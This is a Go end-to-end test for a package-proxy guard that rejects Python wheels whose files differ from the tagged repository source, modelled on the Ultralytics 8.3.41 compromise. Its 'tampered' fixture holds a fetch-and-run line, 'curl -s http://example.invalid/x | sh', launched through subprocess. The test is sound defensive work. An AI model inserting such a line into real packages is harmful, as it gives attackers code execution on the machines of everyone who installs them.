package e2e

import (
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"airlock/internal/fakepypi"
)

// TestWheelComparedWithTaggedSource is the compromised-pipeline shape
// (Ultralytics 8.3.41: built, attested and tagged like any other release,
// carrying code nobody committed): ultra 1.1's ultra/utils/downloads.py is
// not what the repository has at v1.1, and pip is refused with the file
// named. clean 1.1, whose files are its tag's, installs. When the forge's
// source archives cannot be read, the comparison is inert: the release is
// served as the other checks decide, and /readyz says the check cannot
// run.
func TestWheelComparedWithTaggedSource(t *testing.T) {
	requireVenv(t)
	pip := pipClient("pinned-pip", filepath.Join(venv, "bin", "python"))
	fake := fakepypi.New()
	t.Cleanup(fake.Close)
	committed := map[string]string{"ultra/__init__.py": "", "ultra/utils/__init__.py": "", "ultra/utils/downloads.py": "def get(url):\n    return url\n"}
	built := map[string]string{"ultra/utils/__init__.py": "", "ultra/utils/downloads.py": "def get(url):\n    return url\n"}
	tampered := map[string]string{"ultra/utils/__init__.py": "", "ultra/utils/downloads.py": "def get(url):\n    return url\n\nimport subprocess\nsubprocess.Popen(['sh', '-c', 'curl -s http://example.invalid/x | sh'])\n"}
	repoFiles := func(pkg string) map[string]string {
		out := map[string]string{"README.md": "# " + pkg, "pyproject.toml": "[project]\nname = \"" + pkg + "\"\n"}
		for p, body := range committed {
			out["src/"+strings.Replace(p, "ultra", pkg, 1)] = body
		}
		return out
	}
	rename := func(m map[string]string, pkg string) map[string]string {
		out := map[string]string{}
		for p, body := range m {
			out[strings.Replace(p, "ultra", pkg, 1)] = body
		}
		return out
	}
	now := time.Now()
	for _, pkg := range []string{"ultra", "clean", "inert"} {
		fake.SetMeta(pkg, fakepypi.ProjectMeta{Maintainers: []string{"a", "b", "c"}, Organization: "acme",
			ProjectURLs: map[string]string{"Source": "https://github.com/acme/" + pkg}})
		fake.SetRepo("acme/"+pkg, fakepypi.Repo{CreatedAt: now.Add(-1000 * 24 * time.Hour), PushedAt: now,
			Tags: []fakepypi.FakeTag{{Name: "v1.0", CommitTime: uploaded.Add(-time.Hour), Released: uploaded.Add(-time.Hour), Files: repoFiles(pkg)},
				{Name: "v1.1", CommitTime: uploaded.Add(23 * time.Hour), Released: uploaded.Add(23 * time.Hour), Files: repoFiles(pkg)}}})
		fake.AddWheel(fakepypi.WheelSpec{Name: pkg, Version: "1.0", Extra: rename(built, pkg)}, uploaded)
		files := built
		if pkg == "ultra" {
			files = tampered
		}
		fake.AddWheel(fakepypi.WheelSpec{Name: pkg, Version: "1.1", Extra: rename(files, pkg)}, uploaded.Add(24*time.Hour))
	}
	fake.SetFault("/repos/acme/inert/tarball/v1.1", fakepypi.Fault{Status: http.StatusServiceUnavailable})
	a := startAirlock(t, t.TempDir(), airlockEnv(fake)...)

	out, err := run(t, pip.install(a.URL+"/simple/", t.TempDir(), "ultra==1.1"))
	if err == nil || !strings.Contains(out, "not-in-source in ultra/utils/downloads.py") || !strings.Contains(out, "differs from the source at v1.1") {
		t.Errorf("a module that is not its tag's: %v\n%s", err, out)
	}
	target := t.TempDir()
	if out, err := run(t, pip.install(a.URL+"/simple/", target, "clean==1.1")); err != nil {
		t.Errorf("a release whose files are its tag's: %v\n%s", err, out)
	}
	assertInstalled(t, target, map[string]string{"clean": "1.1"})
	if out, err := run(t, pip.install(a.URL+"/simple/", t.TempDir(), "inert==1.1")); err != nil {
		t.Errorf("the forge down: the comparison is inert, not a hold: %v\n%s", err, out)
	}
	if _, body, _ := fetch(t, http.MethodGet, a.URL+"/readyz", nil); !strings.Contains(string(body), "the source comparison cannot run") {
		t.Errorf("/readyz does not say the comparison is inert:\n%s", body)
	}
}
